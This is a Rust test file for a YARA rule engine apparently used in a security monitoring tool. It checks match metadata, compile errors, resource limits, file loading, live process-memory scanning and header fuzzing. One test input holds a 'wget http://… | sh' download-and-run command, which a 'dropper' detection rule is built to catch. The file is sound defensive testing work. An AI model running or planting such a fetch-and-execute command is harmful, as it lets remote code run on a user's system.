//! YARA rules on bytes, files and processes.

#![allow(clippy::unwrap_used, reason = "a failed expectation is the report")]

use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::LazyLock;
use std::time::Duration;

use event_model::Severity;
use file_scan::{
    CompiledYara, ContentUnread, LastSymlink, MetaValue, ProcessMemory, ProcessUnread, RegularFile,
    ScanLimits, ScanSubject, YaraIncomplete, YaraRules, YaraSource, YaraSources,
};
use proptest::prelude::*;
use rule_engine::DiagnosticCode;

fn compile(text: &str) -> CompiledYara {
    YaraRules::compile(&[YaraSource::new("rules.yar", text)])
}

/// Rules that must compile without a word.
fn rules(text: &str) -> YaraRules {
    let CompiledYara { rules, diagnostics } = compile(text);
    assert!(diagnostics.is_empty(), "{diagnostics:?}");
    rules
}

fn matched(rules: &YaraRules, bytes: &[u8]) -> Vec<String> {
    let scan = rules.scan_bytes(bytes, ScanSubject::default(), &ScanLimits::default());
    assert_eq!(scan.incomplete, None);
    scan.matches.into_iter().map(|matched| matched.rule).collect()
}

#[test]
fn a_match_tells_all_that_an_alert_needs() {
    let rules = rules(
        r#"
rule dropper : linux T1059_004 {
    meta:
        description = "Fetches and runs"
        Severity = "High"
        mitre_attack = "T1105, T1204.002"
        reference = "https://example.org/a"
        revision = 3
        tested = true
    strings:
        $get = "wget http" nocase
        $run = { 7C 20 73 68 }
    condition:
        all of them
}"#,
    );
    let text = b"x=1; WGET http://198.51.100.7/a | sh ; wget http://198.51.100.7/b | sh";
    let scan = rules.scan_bytes(text, ScanSubject::default(), &ScanLimits::default());
    let [found] = scan.matches.as_slice() else { panic!("{scan:?}") };
    assert_eq!((found.rule.as_str(), found.namespace.as_str()), ("dropper", "rules.yar"));
    assert_eq!(found.tags, ["linux", "T1059_004"]);
    assert_eq!(found.severity(), Some(Severity::High));
    assert_eq!(found.description(), Some("Fetches and runs"));
    assert_eq!(found.reference(), Some("https://example.org/a"));
    assert_eq!(found.attack(), ["T1059.004", "T1105", "T1204.002"]);
    assert_eq!(found.meta("revision"), Some(&MetaValue::Integer(3)));
    assert_eq!(found.meta("tested"), Some(&MetaValue::Boolean(true)));
    let strings: Vec<_> =
        found.strings.iter().map(|it| (it.name.as_str(), it.offset, it.data.as_slice())).collect();
    let expected: [(_, _, &[u8]); 4] =
        [("get", 5, b"WGET http"), ("run", 32, b"| sh"), ("get", 39, b"wget http"), ("run", 66, b"| sh")];
    assert_eq!(strings, expected);
}

#[test]
fn the_modules_and_names_that_public_rules_use_are_there() {
    let rules = rules(
        r#"
import "pe"
import "elf"
import "hash"
import "math"
import "dotnet"
import "macho"
rule is_elf { condition: elf.type == elf.ET_DYN or elf.type == elf.ET_EXEC }
rule hashed { condition: hash.sha256(0, filesize) == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad" }
rule signed { condition: pe.is_pe and pe.number_of_signatures > 0 }
rule dense { condition: filesize > 100 and math.entropy(0, filesize) >= 7.9 }
rule named { condition: filename == "evil.sh" and filepath contains "/tmp" and extension == ".sh" and filetype == "script" }
"#,
    );
    assert_eq!(matched(&rules, b"abc"), ["hashed"]);
    let own = fs::read("/proc/self/exe").unwrap();
    assert_eq!(matched(&rules, &own), ["is_elf"]);
    let subject =
        ScanSubject { path: Some(Path::new("/tmp/x/evil.sh")), file_type: "script", ..Default::default() };
    let scan = rules.scan_bytes(b"x", subject, &ScanLimits::default());
    assert_eq!(scan.matches[0].rule, "named");
}

#[test]
fn an_error_has_its_place_and_takes_no_other_rule_down() {
    // The first fails to compile, and so does the one that refers to it.
    let text = "import \"pe\"\nrule good { condition: true }\nrule bad {\n  condition: pe.nothing\n}\n\
                rule refers { condition: bad }\nrule last { condition: pe.is_pe or true }\n";
    let CompiledYara { rules, diagnostics } = compile(text);
    assert_eq!(matched(&rules, b"x"), ["good", "last"]);
    let told: Vec<_> = diagnostics.iter().map(|it| (it.file.as_str(), it.line, it.column, it.code)).collect();
    let bad = DiagnosticCode::BadYara;
    assert_eq!(told, [("rules.yar", 4, 16, bad), ("rules.yar", 6, 26, bad)], "{diagnostics:?}");
    assert!(diagnostics[0].reason.contains("nothing"), "{diagnostics:?}");
    let drawn = diagnostics[0].render(text);
    assert!(drawn.contains("4 |   condition: pe.nothing"), "{drawn}");

    // A file that does not even parse.
    let text = "rule a { condition: true }\nrule b {\n  strings: $x = \"}\n  condition: $x\n}\nrule c { condition: true }\n";
    let CompiledYara { rules, diagnostics } = compile(text);
    assert_eq!(matched(&rules, b"x"), ["a", "c"]);
    assert_eq!(diagnostics.len(), 1, "{diagnostics:?}");
    assert_eq!((diagnostics[0].line, diagnostics[0].code), (3, bad));

    let CompiledYara { rules, diagnostics } =
        compile("rule a { condition: true }\nrule a { condition: false }\n}");
    assert_eq!(rules.len(), 1);
    assert_eq!(diagnostics.iter().map(|it| it.line).collect::<Vec<_>>(), [2, 3], "{diagnostics:?}");
    assert!(compile("").rules.is_empty());
}

#[test]
fn rules_read_no_files_of_the_host() {
    let CompiledYara { rules, diagnostics } =
        compile("include \"/etc/passwd\"\nrule a { condition: true }\n");
    assert_eq!(rules.len(), 1);
    assert_eq!((diagnostics.len(), diagnostics[0].line), (1, 1));
    assert!(diagnostics[0].reason.contains("include"), "{diagnostics:?}");
}

#[test]
fn hostile_rule_texts_are_refused_and_cost_little() {
    let deep = format!("rule a {{ condition: {}true{} }}", "(".repeat(50_000), ")".repeat(50_000));
    let long = format!(
        "rule a {{ strings: $a = /(a{{1,1000}}){{1,1000}}b{}/ condition: $a }}",
        "(x|y)".repeat(2_000)
    );
    let nots = format!("rule a {{ condition: {} true }}", "not ".repeat(100_000));
    let jumps = format!("rule a {{ strings: $a = {{ 01 {} 02 }} condition: $a }}", "( 01 | ".repeat(10_000));
    for text in [
        deep.as_str(),
        &long,
        &nots,
        &jumps,
        "rule",
        "rule a {",
        "\0",
        "{{{{",
        "/*",
        "rule a { strings: $a = /",
    ] {
        let CompiledYara { diagnostics, .. } = compile(&format!("{text}\n"));
        assert!(diagnostics.iter().any(|it| it.is_error()), "{}", &text[..text.len().min(60)]);
    }
}

#[test]
fn a_string_without_a_fixed_part_is_warned_of_and_bounded() {
    let slow = YaraSource::new("slow.yar", "rule a {\n strings:\n  $slow = /a+b*/\n condition: $slow\n}\n");
    let text = "rule anchored { strings: $b = /^MZ.*z/ condition: $b or filesize > 0 }";
    let CompiledYara { rules, diagnostics } = YaraRules::compile(&[slow, YaraSource::new("fast.yar", text)]);
    assert_eq!(matched(&rules, b"  ab7 "), ["anchored", "a"]);
    assert_eq!(rules.len(), 2);
    let [warning] = diagnostics.as_slice() else { panic!("{diagnostics:?}") };
    assert_eq!((warning.code, warning.line, warning.column), (DiagnosticCode::SlowString, 3, 3));
    assert!(!warning.is_error());

    // Content on which such a search takes minutes for each 32 MiB.
    assert_eq!(matched(&rules, &vec![b'a'; 1 << 20]), ["anchored", "a"]);
    let scan = rules.scan_bytes(&vec![b'a'; 32 << 20], ScanSubject::default(), &ScanLimits::default());
    assert_eq!((scan.matches.len(), scan.incomplete), (1, Some(YaraIncomplete::SlowRulesSkipped)));
}

#[test]
fn a_scan_stays_within_its_limits() {
    let many: String =
        (0..50).map(|nth| format!("rule r{nth} {{ strings: $a = \"aaaa\" condition: $a }}\n")).collect();
    let limits = ScanLimits { max_matches: 3, max_strings: 5, max_data: 2, ..ScanLimits::default() };
    let scan = rules(&many).scan_bytes(&[b'a'; 100_000], ScanSubject::default(), &limits);
    assert_eq!((scan.matches.len(), scan.incomplete), (3, Some(YaraIncomplete::TooManyMatches)));
    assert_eq!(scan.matches[0].strings.len(), 5);
    assert_eq!(
        (scan.matches[0].strings[0].length, scan.matches[0].strings[0].data.as_slice()),
        (4, &b"aa"[..])
    );

    // Nested loops that would run for years.
    let endless =
        "rule a { condition: for all i in (0..1000000) : ( for all j in (0..1000000) : ( i + j >= 0 ) ) }";
    let limits = ScanLimits { timeout: Duration::from_millis(50), ..ScanLimits::default() };
    let scan = rules(endless).scan_bytes(b"x", ScanSubject::default(), &limits);
    assert_eq!(scan.incomplete, Some(YaraIncomplete::TimedOut));
}

#[test]
fn files_are_read_within_the_limit_and_folders_with_their_namespaces() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, bytes: &[u8]| {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, bytes).unwrap();
        path
    };
    write("a.yar", b"rule same { strings: $a = \"needle\" condition: $a }");
    write("deep/er/b.yara", b"rule same { condition: filesize > 1MB }");
    write("notes.txt", b"rule ignored { condition: true }");
    write("latin1.yar", b"rule caf\xe9 { condition: true }");
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("link.yar")).unwrap();
    let sources = YaraSources::read(&[dir.path().to_path_buf(), PathBuf::from("/missing.yar")]);
    let codes: Vec<_> = sources.diagnostics.iter().map(|it| it.code).collect();
    use DiagnosticCode::{NotUtf8, Unreadable};
    assert_eq!(codes, [NotUtf8, Unreadable, Unreadable], "{:?}", sources.diagnostics);
    assert_eq!((sources.diagnostics[0].line, sources.diagnostics[0].column), (1, 9));
    let CompiledYara { rules, diagnostics } = YaraRules::compile(&sources.texts);
    assert!(diagnostics.is_empty(), "{diagnostics:?}");
    assert_eq!(rules.names().collect::<Vec<_>>(), [("a", "same"), ("deep/er/b", "same")]);

    let file = write("file", &[&[0; 100_000][..], b"needle"].concat());
    let file = RegularFile::open(&file, LastSymlink::Refuse).unwrap();
    let limits = ScanLimits { max_bytes: 100_006, ..ScanLimits::default() };
    let scan = rules.scan_file(&file, ScanSubject::default(), &limits).unwrap();
    assert_eq!((scan.matches.len(), scan.matches[0].strings[0].offset), (1, 100_000));
    let limits = ScanLimits { max_bytes: 100_005, ..ScanLimits::default() };
    assert_eq!(rules.scan_file(&file, ScanSubject::default(), &limits), Err(ContentUnread::TooLarge));
}

/// A child that is killed and reaped however the test ends.
struct Target(Child);

impl Drop for Target {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn a_string_that_is_only_in_the_memory_of_a_process_is_found_without_stopping_it() {
    // The shell joins the parts, so that no file and no command line has the whole.
    let mut child = Command::new("sh")
        .args([
            "-c",
            "a=memory; b=marker; c=$a-only-$b-7f3; echo ready; while read -r line; do echo $line; done",
        ])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .map(Target)
        .unwrap();
    let mut output = BufReader::new(child.0.stdout.take().unwrap());
    let mut line = String::new();
    output.read_line(&mut line).unwrap();
    assert_eq!(line, "ready\n");
    let rules = rules(
        "rule marker { strings: $a = \"memory-only-marker-7f3\" condition: $a }\n\
         rule absent { strings: $a = \"memory-only-marker-7f4\" condition: $a }",
    );
    let limits = ScanLimits { max_bytes: 64 << 20, ..ScanLimits::default() };
    let memory = ProcessMemory::open(child.0.id(), limits.max_bytes).unwrap();
    assert!(memory.start_ticks() > 0);
    let chosen = memory.chosen_bytes();
    assert!((1 << 16..16 << 20).contains(&chosen), "{chosen}");
    let scan = rules.scan_process(memory, &limits);
    let names: Vec<_> = scan.matches.iter().map(|it| it.rule.as_str()).collect();
    assert_eq!(names, ["marker"], "{:?}", scan.incomplete);
    assert!(scan.matches[0].strings[0].offset > 0x1000);

    // It runs on, and nobody traces it.
    let status = fs::read_to_string(format!("/proc/{}/status", child.0.id())).unwrap();
    assert!(status.contains("TracerPid:\t0"));
    child.0.stdin.as_mut().unwrap().write_all(b"still here\n").unwrap();
    line.clear();
    output.read_line(&mut line).unwrap();
    assert_eq!(line, "still here\n");

    let memory = ProcessMemory::open(child.0.id(), 8_192).unwrap();
    assert_eq!(memory.chosen_bytes(), 8_192);
    let scan = rules.scan_process(memory, &limits);
    assert!(matches!(scan.incomplete, Some(YaraIncomplete::MemoryUnread { bytes }) if bytes > 0), "{scan:?}");
}

#[test]
fn processes_that_can_not_be_read_say_why() {
    let gone = ProcessMemory::open(4_194_304, 1 << 20).unwrap_err();
    assert_eq!((gone, gone.as_str()), (ProcessUnread::Gone, "process_gone"));
    assert_eq!(ProcessMemory::open(std::process::id(), 1 << 20).unwrap_err(), ProcessUnread::OwnProcess);
    if rustix::process::geteuid().is_root() {
        // A thread of the kernel has no memory of its own.
        assert_eq!(ProcessMemory::open(2, 1 << 20).unwrap_err(), ProcessUnread::Gone);
    } else {
        println!("skipped: kernel threads (not root)");
    }
}

/// Beginnings that make the modules parse what follows.
static BEGINNINGS: LazyLock<Vec<Vec<u8>>> = LazyLock::new(|| {
    let own = fs::read("/proc/self/exe").unwrap();
    let mut pe = b"MZ".to_vec();
    pe.resize(60, 0);
    pe.extend(64_u32.to_le_bytes());
    // Machine x86-64, three sections, an optional header of 240 bytes, PE32+.
    pe.extend(b"PE\0\0\x64\x86\x03\0\0\0\0\0\0\0\0\0\0\0\0\0\xf0\0\x22\0\x0b\x02");
    pe.resize(4_096, 0);
    let mut dex = b"dex\n035\0".to_vec();
    dex.resize(1_024, 0);
    let mut macho = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0\x09\0\0\0".to_vec();
    macho.resize(2_048, 0);
    vec![own[..own.len().min(16_384)].to_vec(), pe, dex, macho]
});

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn forged_headers_do_not_bring_the_modules_down(
        which in 0_usize..4,
        patches in proptest::collection::vec((any::<proptest::sample::Index>(), any::<u8>()), 0..60),
        near in proptest::collection::vec((0_usize..512, prop_oneof![Just(0_u8), Just(0xff), Just(0x7f), any::<u8>()]), 0..40),
    ) {
        static RULES: LazyLock<YaraRules> = LazyLock::new(|| rules(
            "import \"pe\" import \"elf\" import \"dotnet\" import \"macho\" import \"dex\" import \"hash\" import \"math\"\n\
             rule a { condition: pe.number_of_sections > 2 and pe.imphash() == \"x\" or pe.number_of_signatures > 9 \
             or elf.number_of_sections > 9999 or dotnet.number_of_streams > 99 or macho.ncmds > 99999 \
             or math.entropy(0, filesize) < 0.0 or hash.md5(filesize - 5, 99) == \"x\" or pe.rich_signature.toolid(1) > 9 }",
        ));
        let mut bytes = BEGINNINGS[which].clone();
        for (at, byte) in patches {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        for (at, byte) in near {
            bytes[at] = byte;
        }
        // The magic stays, or nothing is parsed.
        bytes[..4].copy_from_slice(&BEGINNINGS[which][..4]);
        let scan = RULES.scan_bytes(&bytes, ScanSubject::default(), &ScanLimits::default());
        prop_assert_eq!(scan.incomplete, None);
    }
}
